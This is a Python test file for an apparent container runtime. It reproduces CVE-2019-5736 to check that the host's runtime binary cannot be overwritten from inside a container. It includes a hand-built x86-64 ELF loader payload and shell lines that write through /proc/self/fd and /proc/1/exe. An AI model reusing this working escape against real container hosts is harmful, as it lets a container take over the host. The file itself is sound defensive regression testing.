"""CVE-2019-5736: a container reaches the runtime's program through /proc and overwrites it.

Ours would be the host's Python. What enters a container runs from a file that nobody can write, init is not dumpable,
and imports are locked, so neither the file nor the code of what enters a container is the container's to choose.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import struct
import sys
from pathlib import Path

import pytest
from msgspec.structs import replace
from tests.support.entries import Entry
from tests.support.launching import DEFAULT_CAPABILITIES, Bench, Connection

from windlass.linux.capabilities import effective_capabilities
from windlass.spec import plan as ops
from windlass.spec.task import TaskPlan

pytestmark = pytest.mark.root

_PYTHON = os.path.realpath(sys.executable)
_LOADED_AT = 0x10000000
_ATTACK = """
readlink /proc/self/fd/3 >/dev/null || echo NOT ATTACKED
echo evil 2>/dev/null >/proc/self/fd/3 && echo OVERWRITTEN
echo DONE
"""


def _digest(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _loader() -> bytes:
    """An ELF file that opens /proc/self/exe and becomes `sh /attack`, with the descriptor."""
    head = 64 + 56
    strings = [b"/proc/self/exe\0", b"/bin/sh\0", b"sh\0", b"/attack\0"]
    code_length = 40
    starts = [_LOADED_AT + head + code_length + sum(map(len, strings[:n])) for n in range(4)]
    vector = starts[3] + len(strings[3])
    code = (
        b"\xbf%b\x31\xf6\xb8\x02\0\0\0\x0f\x05"  # open(path, O_RDONLY)
        b"\xbf%b\xbe%b\x31\xd2\xb8\x3b\0\0\0\x0f\x05"  # execve(shell, vector, NULL)
        b"\xb8\x3c\0\0\0\x0f\x05" % tuple(struct.pack("<I", at) for at in (starts[0], starts[1], vector))
    )  # fmt: skip
    assert len(code) == code_length
    body = code + b"".join(strings) + struct.pack("<QQQ", starts[2], starts[3], 0)
    size = head + len(body)
    ident = b"\x7fELF\x02\x01\x01".ljust(16, b"\0")
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, _LOADED_AT + head, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, _LOADED_AT, _LOADED_AT, size, size, 0x1000) + body


def _replace_loader(root: Path) -> None:
    """Make the container's ELF interpreter hostile: its code runs in any program that is loaded there."""
    if os.uname().machine != "x86_64":
        pytest.skip("the attack is machine code of x86-64")
    with open(_PYTHON, "rb") as file:
        found = re.search(rb"/lib[\w/]*/ld-[\w.-]+", file.read(1 << 20))
    if found is None:
        pytest.skip("this interpreter has no ELF loader")
    loader = root / found[0].decode().lstrip("/")
    loader.parent.mkdir(parents=True, exist_ok=True)
    loader.write_bytes(_loader())
    loader.chmod(0o755)
    (root / "attack").write_text(_ATTACK)


async def test_program_that_is_the_runtime_itself(entry: Entry) -> None:
    """The published attack: the container's program is a link to /proc/self/exe, and its loader is the container's."""
    before = _digest(_PYTHON)
    _replace_loader(entry.root)
    (entry.root / "evil").symlink_to("/proc/self/exe")
    shutil.copy(_PYTHON, entry.root / "copy")
    # The attack on a file that is not protected: it does work.
    assert "OVERWRITTEN" in await entry.output(["/copy"], privileged=True)
    assert _digest(_PYTHON) == before
    output = await entry.output(["/evil"], privileged=True)
    assert output.split() == ["DONE"]
    assert _digest(_PYTHON) == before


def _with_init(plan: TaskPlan, *, capabilities: int) -> TaskPlan:
    steps = [op for op in plan.launch.ops if not isinstance(op, ops.Credentials)]
    steps[-1:-1] = [ops.Credentials(capabilities, capabilities, capabilities), ops.BecomeInit()]
    return replace(plan, launch=replace(plan.launch, ops=steps))


async def test_init_that_stays(bench: Bench) -> None:
    """With an init of ours as process 1, the interpreter stays inside; who may trace it cannot write it either."""
    before = _digest(_PYTHON)
    script = """
    tr '\\0' ' ' </proc/1/cmdline; echo; cat /proc/1/comm
    echo evil 2>/dev/null >/proc/1/exe && echo OVERWRITTEN
    exec 4</proc/1/exe && echo evil 2>/dev/null >/proc/self/fd/4 && echo OVERWRITTEN
    ls /proc/1/fd | wc -l
    """
    plan = _with_init(bench.plan("c", ["sh", "-c", script]), capabilities=effective_capabilities())
    output, _ = await bench.run(plan)
    assert output.split() == [b"init", b"init", b"0"]
    assert _digest(_PYTHON) == before


async def test_init_that_stays_is_closed_to_the_container(bench: Bench) -> None:
    script = "for file in fd exe environ maps mem; do cat /proc/1/$file >/dev/null || ls /proc/1/$file/; done 2>&1"
    output, _ = await bench.run(_with_init(bench.plan("c", ["sh", "-c", script]), capabilities=DEFAULT_CAPABILITIES))
    assert output.count(b"ermission denied") >= 5


async def test_supervisor_runs_from_a_file_that_nobody_can_write(bench: Bench) -> None:
    task = await bench.start(bench.plan("c", ["sleep", "1000"]))
    directory = bench.launcher.task_directory("c")
    with open(f"{directory}/pid") as file:
        supervisor = int(file.read().split()[1])
    assert os.readlink(f"/proc/{supervisor}/exe").startswith("/memfd:")
    with pytest.raises(OSError):
        os.open(f"/proc/{supervisor}/exe", os.O_WRONLY | os.O_TRUNC)
    await task.kill(9)
    await task.wait()


async def test_init_and_exec_are_invisible_to_the_container(bench: Bench) -> None:
    """While an exec joins, a watcher inside may not open its memory or descriptors."""
    watcher = "while :; do for p in /proc/[2-9]*; do ls $p/fd >/dev/null 2>&1 && readlink $p/exe; done; done"
    with Connection() as client:
        task = await bench.start(bench.plan("c", ["sh", "-c", watcher]), client.attachment)
        client.handed_over()
        for number in range(20):
            await task.exec(bench.exec_plan(f"e{number}", ["true"]), [])
        await task.kill(9)
        seen = await client.read_all()
        await task.wait()
    assert b"python" not in seen
    assert b"memfd" not in seen
